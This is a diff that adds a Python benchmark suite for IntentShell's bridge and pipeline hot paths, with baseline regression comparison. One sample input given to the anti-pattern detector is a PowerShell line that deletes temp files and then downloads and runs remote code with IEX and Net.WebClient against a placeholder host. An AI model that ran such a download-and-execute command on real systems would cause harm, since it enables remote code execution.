@@ -0,0 +1,217 @@
+"""
+Benchmark suite for the bridge and pipeline hot paths.
+
+Runs against the pure-Python fake Kernel (tests/fake_kernel.py, no scripted latency)
+so the numbers measure IntentShell's own overhead: session round trips, command
+encoding for 1 KB to 1 MB scripts, NLUBridge cache hits and misses, SentinelBridge
+assess, AntiPatternDetector.scan, Intent construction (validated and trusted), the
+overlay's per-keystroke completion lookup and end-to-end process_input.
+
+Results are written as JSON; with --baseline the medians are compared against a
+stored run and the exit code is 1 when any benchmark regressed past its threshold.
+
+Usage:
+    python tests/benchmark_suite.py --output bench.json
+    python tests/benchmark_suite.py --baseline tests/fixtures/benchmark_baseline.json
+    python tests/benchmark_suite.py --only nlu --repeat 500
+    python tests/benchmark_suite.py --update-baseline tests/fixtures/benchmark_baseline.json
+"""
+import sys
+import os
+import io
+import json
+import time
+import platform
+import argparse
+import datetime
+import statistics
+import contextlib
+from typing import Callable, Dict, List, Optional
+
+# Add project root to sys.path
+sys.path.append(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from core.powershell_session import PowerShellSession
+from core.bridge_nlu import NLUBridge
+from core.bridge_sentinel import SentinelBridge
+from core.execution import ExecutionManager
+from core.security.anti_pattern import AntiPatternDetector
+from core.schemas import Intent, RiskLevel
+from core.completion import Autocomplete
+from tests.conftest import fake_kernel_command
+
+RESULT_FORMAT = "intentshell-benchmarks"
+DEFAULT_THRESHOLD = 0.25   # Allowed relative slowdown of the median
+DEFAULT_MIN_DELTA_US = 50  # Slowdowns smaller than this are noise, whatever the ratio
+ENCODE_SIZES = [1024, 10 * 1024, 100 * 1024, 1024 * 1024]
+
+SCRIPT_LINE = "Get-ChildItem -Path $HOME\\Documents -Filter *.txt | Where-Object { $_.Length -gt 1000 } | Select-Object Name, Length\n"
+INTENT_DATA = {"intent": "get_date", "target": "clock", "action": "get", "risk": "low",
+               "description": "Show the current date and time", "generated_command": "Get-Date"}
+
+def _intent() -> Intent:
+    return Intent(intent_type="list_processes", target="processes", action="list", risk=RiskLevel.LOW,
+                  description="List running processes", generated_command="Get-Process | Select-Object Name, Id, CPU")
+
+def measure(func: Callable[[], object], repeat: int, warmup: int = 3) -> Dict[str, float]:
+    """Times repeat calls one by one; returns microsecond statistics."""
+    for _ in range(warmup):
+        func()
+    samples = []
+    for _ in range(repeat):
+        start = time.perf_counter()
+        func()
+        samples.append((time.perf_counter() - start) * 1e6)
+    samples.sort()
+    return {
+        "runs": repeat,
+        "median_us": round(statistics.median(samples), 2),
+        "p95_us": round(samples[min(len(samples) - 1, int(len(samples) * 0.95))], 2),
+        "mean_us": round(statistics.fmean(samples), 2),
+        "min_us": round(samples[0], 2),
+    }
+
+def build_benchmarks(session: PowerShellSession) -> Dict[str, Callable[[], object]]:
+    """Benchmark name -> zero-argument callable. Setup happens here, outside the timed calls."""
+    benchmarks = {}
+
+    benchmarks["session.round_trip"] = lambda: session.run_command("$json = Resolve-Intent -UserInput 'saat kaç'\nWrite-Output $json")
+    for size in ENCODE_SIZES:
+        script = (SCRIPT_LINE * (size // len(SCRIPT_LINE) + 1))[:size]
+        label = f"{size // (1024 * 1024)}mb" if size >= 1024 * 1024 else f"{size // 1024}kb"
+        benchmarks[f"session.encode_{label}"] = lambda script=script: session.encode_command(script)
+
+    nlu = NLUBridge(session)
+    # In memory only; lookups never save. "saat kaç" is unsigned (full validation), "what time is it" signed
+    nlu.cache = {NLUBridge.cache_key("saat kaç"): INTENT_DATA,
+                 NLUBridge.cache_key("what time is it"): nlu.prepare_entry(INTENT_DATA)}
+    benchmarks["nlu.cache_hit"] = lambda: nlu.resolve_intent("saat kaç")
+    benchmarks["nlu.cache_hit_trusted"] = lambda: nlu.resolve_intent("what time is it")
+    benchmarks["nlu.cache_miss"] = lambda: nlu.resolve_intent("list processes")
+
+    sentinel = SentinelBridge(session)
+    intent = _intent()
+    benchmarks["sentinel.assess"] = lambda: sentinel.assess(intent, intent.generated_command)
+
+    suspicious = "Remove-Item $env:TEMP\\*.tmp -Recurse; IEX (New-Object Net.WebClient).DownloadString('http://x')"
+    benchmarks["anti_pattern.scan"] = lambda: AntiPatternDetector.scan(suspicious)
+    benchmarks["intent.construct"] = _intent
+    trusted_fields = _intent().model_dump(exclude_defaults=True)
+    benchmarks["intent.construct_trusted"] = lambda: Intent.from_trusted(trusted_fields)
+
+    completer = Autocomplete(cache_file=os.devnull, macros_file=os.devnull)
+    phrases = ["clean temp files", "list processes", "show disk usage", "open network settings"]
+    for i in range(10000):
+        completer.inputs.add(f"{phrases[i % 4]} {i}", when=time.time() - i)
+    benchmarks["completion.suggest"] = lambda: completer.suggest("list processes 1")
+
+    manager = ExecutionManager(session, nlu_bridge=nlu)
+    benchmarks["pipeline.process_input"] = lambda: manager.process_input("işlemleri listele", bypass_cache=True)
+    return benchmarks
+
+def run(repeat: int, only: Optional[List[str]] = None, session: Optional[PowerShellSession] = None) -> dict:
+    """Runs the suite (or the benchmarks whose names start with one of only) and returns the result document."""
+    own_session = session is None
+    if own_session:
+        session = PowerShellSession(kernel_command=fake_kernel_command())
+    try:
+        results = {}
+        for name, func in build_benchmarks(session).items():
+            if only and not any(name.startswith(prefix) for prefix in only):
+                continue
+            # Megabyte-sized encodes are slow enough that fewer runs still give a stable median
+            runs = max(5, repeat // 10) if name.endswith("mb") else repeat
+            with contextlib.redirect_stdout(io.StringIO()): # Bridges print cache hits and warnings
+                results[name] = measure(func, runs)
+    finally:
+        if own_session:
+            session.close()
+    return {
+        "format": RESULT_FORMAT,
+        "created": datetime.datetime.now().isoformat(timespec="seconds"),
+        "python": platform.python_version(),
+        "platform": platform.platform(),
+        "results": results,
+    }
+
+def compare(current: dict, baseline: dict, threshold: float = DEFAULT_THRESHOLD,
+            min_delta_us: float = DEFAULT_MIN_DELTA_US) -> List[dict]:
+    """
+    Compares medians with a baseline document. Per-benchmark thresholds in the baseline's
+    "thresholds" map override threshold. Returns one row per benchmark present in both.
+    """
+    overrides = baseline.get("thresholds", {})
+    rows = []
+    for name, result in current["results"].items():
+        base = baseline.get("results", {}).get(name)
+        if not base:
+            continue
+        limit = overrides.get(name, threshold)
+        delta = result["median_us"] - base["median_us"]
+        ratio = result["median_us"] / base["median_us"] if base["median_us"] else 1.0
+        rows.append({
+            "name": name,
+            "baseline_us": base["median_us"],
+            "current_us": result["median_us"],
+            "change": round(ratio - 1.0, 3),
+            "threshold": limit,
+            "regressed": ratio - 1.0 > limit and delta > min_delta_us,
+        })
+    return rows
+
+def _load(path: str) -> dict:
+    with open(path, "r", encoding="utf-8") as f:
+        data = json.load(f)
+    if data.get("format") != RESULT_FORMAT:
+        raise ValueError(f"{path} is not a benchmark result file")
+    return data
+
+def _write(path: str, data: dict):
+    directory = os.path.dirname(path)
+    if directory:
+        os.makedirs(directory, exist_ok=True)
+    with open(path, "w", encoding="utf-8") as f:
+        json.dump(data, f, indent=2, ensure_ascii=False)
+        f.write("\n")
+
+def main():
+    parser = argparse.ArgumentParser(description="IntentShell bridge and pipeline benchmarks")
+    parser.add_argument("--repeat", type=int, default=200)
+    parser.add_argument("--only", nargs="*", help="Run only benchmarks whose names start with these prefixes")
+    parser.add_argument("--output", help="Write the JSON results here")
+    parser.add_argument("--baseline", help="Compare against this result file (exit 1 on regression)")
+    parser.add_argument("--threshold", type=float, default=DEFAULT_THRESHOLD, help="Allowed relative slowdown (0.25 = 25%%)")
+    parser.add_argument("--min-delta-us", type=float, default=DEFAULT_MIN_DELTA_US, help="Ignore slowdowns below this many microseconds")
+    parser.add_argument("--update-baseline", metavar="FILE", help="Store this run as the new baseline (keeps its thresholds)")
+    args = parser.parse_args()
+
+    current = run(args.repeat, args.only)
+
+    print(f"{'benchmark':<28}{'median (us)':>14}{'p95 (us)':>12}{'min (us)':>12}")
+    print("-" * 66)
+    for name, result in current["results"].items():
+        print(f"{name:<28}{result['median_us']:>14}{result['p95_us']:>12}{result['min_us']:>12}")
+
+    if args.output:
+        _write(args.output, current)
+    if args.update_baseline:
+        if os.path.exists(args.update_baseline):
+            current["thresholds"] = _load(args.update_baseline).get("thresholds", {})
+        _write(args.update_baseline, current)
+        print(f"\nBaseline updated: {args.update_baseline}")
+
+    if args.baseline:
+        rows = compare(current, _load(args.baseline), args.threshold, args.min_delta_us)
+        print(f"\n{'benchmark':<28}{'baseline':>12}{'current':>12}{'change':>10}")
+        print("-" * 62)
+        for row in rows:
+            flag = "  REGRESSION" if row["regressed"] else ""
+            print(f"{row['name']:<28}{row['baseline_us']:>12}{row['current_us']:>12}{row['change']:>+10.1%}{flag}")
+        regressions = [row["name"] for row in rows if row["regressed"]]
+        if regressions:
+            print(f"\n{len(regressions)} benchmark(s) regressed: {', '.join(regressions)}")
+            sys.exit(1)
+        print("\nNo regressions.")
+
+if __name__ == "__main__":
+    main()